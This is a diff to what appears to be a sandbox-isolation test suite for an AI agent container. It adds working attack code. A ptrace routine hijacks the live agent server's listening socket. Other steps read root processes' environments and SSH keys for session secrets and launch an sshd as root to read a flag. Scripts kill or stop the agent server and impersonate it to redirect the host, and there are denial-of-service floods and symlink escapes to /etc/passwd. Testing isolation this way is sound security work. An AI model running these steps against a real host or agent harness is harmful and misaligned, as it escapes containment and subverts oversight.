@@ -101,12 +101,51 @@ def search(pattern):
         except OSError:
             pass
 
-def pipe_end():
-    "The process, not ours, at the container's end of the pipe."
-    for path in mine("cmdline"):
-        if b"sys.stdin.readline" in open(path, "rb").read():
-            return int(path.split("/")[2])
-    raise SystemExit("there is no pipe")
+def pipe_ends():
+    "Root's processes, with what they run: the container's end of the pipe, and what watches it."
+    found = {}
+    for path in mine("status"):
+        try:
+            if re.search(r"^Uid:\s0\s", open(path).read(), re.M):
+                found[int(path.split("/")[2])] = open(path[:-6] + "cmdline").read()
+        except OSError:
+            pass
+    return found
+
+def take_listener(port):
+    "Have the live agent server, traced, close its listener; return one of ours in its place."
+    tables = [line.split() for line in open("/proc/net/tcp")]
+    sockets = [f"socket:[{row[9]}]" for row in tables if row[1].endswith(f":{port:04X}")
+               and row[3] == "0A"]
+    def held(path):
+        try: return os.readlink(path) in sockets
+        except OSError: return False
+    pid, fd = next((int(folder.split("/")[2]), int(fd)) for folder in mine("fd")
+                   if os.access(folder, os.R_OK) for fd in os.listdir(folder)
+                   if held(f"{folder}/{fd}"))
+    for _ in range(50):
+        if libc.ptrace(16, pid, None, None): raise OSError(ctypes.get_errno(), "ptrace")
+        os.waitpid(pid, 0)
+        before = (ctypes.c_ulonglong * 27)()
+        libc.ptrace(12, pid, None, ctypes.addressof(before))
+        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
+            memory.seek(before[16] - 2)
+            waiting = memory.read(2) == b"\x0f\5"
+        if waiting: break
+        libc.ptrace(17, pid, None, None)
+        time.sleep(0.1)
+    then = (ctypes.c_ulonglong * 27)(*before)
+    then[10], then[14], then[15], then[16] = 3, fd, 2**64 - 1, before[16] - 2
+    libc.ptrace(13, pid, None, ctypes.addressof(then))
+    libc.ptrace(9, pid, None, None)
+    os.waitpid(pid, 0)
+    libc.ptrace(13, pid, None, ctypes.addressof(before))
+    libc.ptrace(17, pid, None, None)
+    listener = socket.socket()
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind(("0.0.0.0", port))
+    listener.listen()
+    return listener
 
 def server(path):
     "What the agent server's API says to one who has its session key."
@@ -268,8 +307,22 @@ privilege: all capabilities, asked for -> flag, python
     libc.capset(head, sets)
     libc.setuid(0)
     print(open("/root/flag").read())
-privilege: /proc/1/environ -> session
-    tr '\0' '\n' </proc/1/environ
+privilege: the environment of PID 1 and of root's processes -> session, python
+    for pid in (1, *pipe_ends()):
+        try: print(open(f"/proc/{pid}/environ").read())
+        except OSError as error: print(error)
+privilege: the SSH server's keys -> replied, python
+    void: there is no SSH server
+    import glob
+    for path in ("/run/key", "/root/.ssh", *glob.glob("/etc/ssh/*_key")):
+        try: os.listdir(path) if os.path.isdir(path) else open(path, "rb"); reply()
+        except OSError as error: print(error)
+privilege: an SSH server of one's own, which lets root in -> flag
+    void: there is no SSH server
+    ssh-keygen -qt ed25519 -N '' -f loot/key
+    ssh -F/dev/null -oBatchMode=yes -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null \
+        -iloot/key -oProxyCommand="/usr/sbin/sshd -i -f /dev/null -h $PWD/loot/key -oUsePAM=no \
+        -oStrictModes=no -oAuthorizedKeysFile=$PWD/loot/key.pub" root@x cat /root/flag
 privilege: /proc/1/root -> replied
     [ -e /proc/1/root/.dockerenv ] && echo reply $NONCE
 privilege: /proc/1/mem -> replied, python
@@ -488,6 +541,9 @@ relay: a compressed body -> upstream, python
     llm(gzip.compress(b"[" * 9_000_000), user_agent=NONCE, Content_Encoding="gzip")
 relay: a body of 33 MiB -> upstream, python
     llm(body(user='x' * (33 << 20)))
+relay: a body of 33 MiB in chunks, its length unsaid -> upstream, python
+    whole = json.dumps(body(user='x' * (33 << 20))).encode()
+    llm(whole[at:at + 65536] for at in range(0, len(whole), 65536))
 relay: a body that nests deeply -> outage, python
     void: there is no pipe and no relay
     llm('{"model": ' + '[' * 200000); llm(body())
@@ -529,9 +585,9 @@ relay: slow bodies -> outage, python
     slow = f"POST {CHAT} HTTP/1.1\r\nHost: x\r\nContent-Length: 99\r\n\r\n{{"
     for s in held: s.send(slow.encode())
     llm(body())
-relay: 300 connections at once -> outage, python
+relay: 100 connections at once -> outage, python
     void: there is no pipe and no relay
-    held = [connect(LLM_HOST, LLM_PORT) for _ in range(300)]
+    held = [connect(LLM_HOST, LLM_PORT) for _ in range(100)]
     llm(body())
 relay: garbage bytes -> outage, python
     void: there is no pipe and no relay
@@ -540,27 +596,27 @@ relay: garbage bytes -> outage, python
 relay: killing, stopping and limiting the pipe's end -> replied, python
     void: there is no pipe and no relay
     import resource
-    pid = pipe_end()
-    for harm in (lambda: os.kill(pid, 0), lambda: os.kill(pid, signal.SIGKILL),
-                 lambda: os.kill(pid, signal.SIGSTOP), lambda: os.setpriority(0, pid, 19),
-                 lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
-                 lambda: os.sched_setaffinity(pid, {0}), lambda: os.kill(1, signal.SIGTERM)):
-        try: harm(); reply()
-        except OSError as error: print(error)
+    for pid in pipe_ends():
+        for harm in (lambda: os.kill(pid, 0), lambda: os.kill(pid, signal.SIGKILL),
+                     lambda: os.kill(pid, signal.SIGSTOP), lambda: os.setpriority(0, pid, 19),
+                     lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
+                     lambda: os.sched_setaffinity(pid, {0})):
+            try: harm(); reply()
+            except OSError as error: print(error)
 relay: tracing the pipe's end -> replied, python
     void: there is no pipe and no relay
-    pid = pipe_end()
-    if not libc.ptrace(16, pid, None, None): reply()
-    open(f"/proc/{pid}/mem", "rb"); reply()
+    for pid in pipe_ends():
+        if not libc.ptrace(16, pid, None, None): reply()
+        try: open(f"/proc/{pid}/mem", "rb"); reply()
+        except OSError as error: print(error)
 relay: feeding the pipe's end -> replied, python
     void: there is no pipe and no relay
-    pid = pipe_end()
-    for fd in range(10):
-        for mode in ("wb", "rb"):
-            try: open(f"/proc/{pid}/fd/{fd}", mode, 0); reply()
-            except OSError as error: print(error)
-    try: libc.syscall(438, libc.syscall(434, pid, 0), 0, 0) >= 0 and reply()
-    except OSError as error: print(error)
+    for pid in pipe_ends():
+        for fd in range(12):
+            for mode in ("wb", "rb"):
+                try: open(f"/proc/{pid}/fd/{fd}", mode, 0); reply()
+                except OSError as error: print(error)
+            if libc.syscall(438, libc.syscall(434, pid, 0), fd, 0) >= 0: reply()
 submission: an absolute link out -> strayed
     ln -s /etc/passwd loot/x
 submission: a link that climbs out -> strayed
@@ -608,23 +664,32 @@ submission: names that are no text -> lost
 """
 )
 
-# Ends every process of the agent's, its server included, and takes the server's place: answers
-# whatever the host asks with a way to somewhere else.
+# Gets hold of as many ways to the host as it is told, and of its server's life if it is told so.
+HOLD = r"""
+import os, re, signal, socket, sys, time
+open("/workspace/kept", "w").close()
+held = []
+for _ in range(int(sys.argv[2])):
+    try: held.append(socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3))
+    except OSError: break
+open(f"/workspace/held-{len(held)}", "w").close()
+for pid in filter(str.isdigit, os.listdir("/proc") if sys.argv[3:] else ()):
+    try:
+        if b"openhands.agent_server" in open(f"/proc/{pid}/cmdline", "rb").read():
+            os.kill(int(pid), signal.SIGKILL)
+    except OSError: pass
+time.sleep(600)"""
+
+# Takes the live agent server's place: answers whatever the host asks with a way to elsewhere.
 IMPERSONATE = r"""
+listener = take_listener(8000)
+reply(); sys.stdout.flush()
 if os.fork(): os._exit(0)
-os.setsid()
-time.sleep(0.5)
-os.kill(-1, signal.SIGKILL)
-listener = socket.socket()
-listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-for _ in range(50):
-    try: listener.bind(("127.0.0.1", 8000)); break
-    except OSError: time.sleep(0.1)
-listener.listen()
+os.setsid(); os.dup2(os.open("/dev/null", os.O_RDWR), 1); os.dup2(1, 2)
 while True:
     near = listener.accept()[0]
     asked = near.recv(9000)
-    scheme = "ws" if b"Upgrade: websocket" in asked else "http"
+    scheme = "ws" if b"upgrade: websocket" in asked.lower() else "http"
     location = f"{scheme}://{TARGET}:{PORT}/{NONCE}"
     near.sendall(f"HTTP/1.1 307 Away\r\nLocation: {location}\r\n"
                  "Content-Length: 0\r\n\r\n".encode())
